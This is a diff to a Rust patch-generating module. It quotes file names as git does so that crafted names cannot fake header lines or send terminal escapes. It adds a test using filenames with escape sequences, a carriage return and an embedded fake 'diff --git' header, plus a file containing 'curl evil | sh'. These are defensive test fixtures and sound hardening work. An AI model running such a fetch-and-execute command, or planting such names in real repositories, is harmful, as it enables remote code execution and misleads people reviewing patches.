@@ -11,6 +11,8 @@ use std::path::Path;
 
 use similar::TextDiff;
 
+use crate::display::quote_path;
+
 /// Files larger than this are compared by content but shown as binary.
 const TEXT_LIMIT: usize = 1 << 20;
 
@@ -180,7 +182,11 @@ pub fn diff(before: &Snapshot, after: &Snapshot) -> String {
     for path in paths {
         if let Some(from) = renamed.get(path) {
             out.push_str(&format!(
-                "diff --git a/{from} b/{path}\nsimilarity index 100%\nrename from {from}\nrename to {path}\n"
+                "diff --git {} {}\nsimilarity index 100%\nrename from {}\nrename to {}\n",
+                quote_path("a/", from),
+                quote_path("b/", path),
+                quote_path("", from),
+                quote_path("", path)
             ));
             continue;
         }
@@ -228,8 +234,14 @@ fn text_of(node: &Node) -> Option<&str> {
     }
 }
 
+/// One file's part of the patch. Its name is quoted as git quotes it, so a name holding
+/// escape sequences or a newline shows as what it is and cannot fake a header.
 fn file_diff(path: &str, old: Option<&Node>, new: Option<&Node>) -> String {
-    let mut out = format!("diff --git a/{path} b/{path}\n");
+    let mut out = format!(
+        "diff --git {} {}\n",
+        quote_path("a/", path),
+        quote_path("b/", path)
+    );
     match (old, new) {
         (None, Some(n)) => out.push_str(&format!("new file mode {}\n", mode_of(n))),
         (Some(o), None) => out.push_str(&format!("deleted file mode {}\n", mode_of(o))),
@@ -252,12 +264,12 @@ fn file_diff(path: &str, old: Option<&Node>, new: Option<&Node>) -> String {
     let (a, b) = (old.map_or(Some(""), text_of), new.map_or(Some(""), text_of));
     let (from, to) = (
         if old.is_some() {
-            format!("a/{path}")
+            quote_path("a/", path)
         } else {
             "/dev/null".into()
         },
         if new.is_some() {
-            format!("b/{path}")
+            quote_path("b/", path)
         } else {
             "/dev/null".into()
         },
@@ -392,5 +404,59 @@ mod tests {
             patch.contains("new file mode 100644\n--- /dev/null\n+++ b/c.txt\n@@ -0,0 +1 @@\n+two"),
             "{patch}"
         );
+    }
+
+    /// A name holding an escape sequence, a newline or a quote is quoted as git quotes it in
+    /// every header, so it cannot redraw the screen or fake a header line; and `git apply`
+    /// reads the quoted names back to the exact bytes.
+    #[test]
+    fn names_are_quoted_as_git_quotes_them_and_the_patch_still_applies() {
+        let tmp = tempfile::tempdir().unwrap();
+        let (before, after) = (tmp.path().join("before"), tmp.path().join("after"));
+        std::fs::create_dir_all(&before).unwrap();
+        std::fs::create_dir_all(&after).unwrap();
+        let evil = "x\x1b]0;t\x07.sh";
+        let faked = "y\ndiff --git z";
+        std::fs::write(before.join("gone\r.txt"), "bye\n").unwrap();
+        std::fs::write(after.join(evil), "curl evil | sh\n").unwrap();
+        std::fs::write(after.join(faked), "two\n").unwrap();
+        std::fs::write(after.join("plain.txt"), "plain\n").unwrap();
+        let patch = diff(
+            &Snapshot::from_dir(&before).unwrap(),
+            &Snapshot::from_dir(&after).unwrap(),
+        );
+        for want in [
+            "diff --git \"a/x\\033]0;t\\a.sh\" \"b/x\\033]0;t\\a.sh\"\n",
+            "+++ \"b/x\\033]0;t\\a.sh\"\n",
+            "+++ \"b/y\\ndiff --git z\"\n",
+            "--- \"a/gone\\r.txt\"\n",
+            "diff --git a/plain.txt b/plain.txt\n",
+        ] {
+            assert!(patch.contains(want), "{want:?} not in {patch:?}");
+        }
+        assert!(
+            !patch.contains('\x1b') && !patch.contains('\r'),
+            "{patch:?}"
+        );
+        let apply = std::process::Command::new("git")
+            .args(["apply", "--unsafe-paths", "-"])
+            .current_dir(&before)
+            .stdin(std::process::Stdio::piped())
+            .spawn()
+            .and_then(|mut child| {
+                use std::io::Write;
+                child.stdin.take().unwrap().write_all(patch.as_bytes())?;
+                child.wait()
+            })
+            .unwrap();
+        assert!(apply.success(), "{patch}");
+        for (name, body) in [
+            (evil, "curl evil | sh\n"),
+            (faked, "two\n"),
+            ("plain.txt", "plain\n"),
+        ] {
+            assert_eq!(std::fs::read_to_string(before.join(name)).unwrap(), body);
+        }
+        assert!(!before.join("gone\r.txt").exists());
     }
 }
